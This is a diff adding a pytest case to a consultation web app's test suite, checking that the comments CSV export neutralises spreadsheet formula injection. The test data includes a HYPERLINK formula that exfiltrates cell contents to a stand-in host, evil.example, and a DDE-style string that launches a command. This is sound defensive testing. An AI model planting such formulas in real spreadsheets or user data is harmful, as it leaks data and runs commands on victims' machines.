@@ -297,3 +297,21 @@ def test_article_counts_follow_new_comments_and_edits(
     assert "1 則意見 · 贊成 0 · 反對 1" in client.get(url).content.decode()
     english = client.get(url, HTTP_ACCEPT_LANGUAGE="en").content.decode()
     assert "贊成 0 · 反對 1" in english or "support 0 · oppose 1" in english
+
+
+@pytest.mark.parametrize(
+    "body",
+    ['=HYPERLINK("http://evil.example/?"&A1,"看")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"],
+)
+def test_csv_for_spreadsheets_makes_formulas_inert(client, open_consultation, citizen, body):
+    services.comment_create(
+        actor=citizen, consultation=open_consultation, body=body, stance="support"
+    )
+    response = client.get(f"/consultations/{open_consultation.public_id}/comments.csv")
+    raw = b"".join(response.streaming_content)
+    assert raw.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    assert rows[0]["body"] == "'" + body
+    # The JSON document is not for spreadsheets: it keeps the text exactly.
+    doc = client.get(f"/consultations/{open_consultation.public_id}/consultation.json").json()
+    assert doc["comments"][0]["body"] == body
